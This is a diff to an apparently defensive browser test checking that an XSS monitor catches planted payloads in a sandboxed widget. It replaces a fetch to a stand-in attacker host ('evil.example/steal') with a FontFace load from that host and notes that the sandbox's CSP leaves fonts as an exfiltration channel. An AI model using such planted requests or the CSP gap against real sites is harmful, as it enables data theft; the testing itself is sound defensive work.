@@ -70,7 +70,7 @@ test('XSS-05: every URL payload as a redirect source — each bad one is refused
   expect(leaks).toEqual([]);
 });
 
-test('XSS-04: the lookout is not blind — a handler, a javascript: link, a sentinel call and a foreign request put into the widget by hand are all seen', async ({ browser, baseURL }) => {
+test('XSS-04: the lookout is not blind — a handler, a javascript: link, a data: image, a sentinel call and a foreign font request planted by hand are all seen', async ({ browser, baseURL }) => {
   const context = await browser.newContext({ baseURL });
   const events = await watchForXss(context, sandboxHosts(baseURL!), () => false);
   const page = await context.newPage();
@@ -83,7 +83,8 @@ test('XSS-04: the lookout is not blind — a handler, a javascript: link, a sent
     el.shadowRoot!.append(planted);
     (window as unknown as { __xssHit(n: string): void }).__xssHit('direct');
     window.alert('alert');
-    void fetch('https://evil.example/steal').catch(() => undefined);
+    // The sandbox's CSP lets fonts come from any https origin (a host's fonts): the one way out it leaves.
+    void new FontFace('Planted', 'url(https://evil.example/steal.woff2)').load().catch(() => undefined);
   });
   await expect.poll(() => events.scriptViolations.length, { message: 'the live handler is blocked by the CSP and seen' }).toBeGreaterThan(0);
   await expect.poll(() => events.foreignRequests.length).toBe(1);
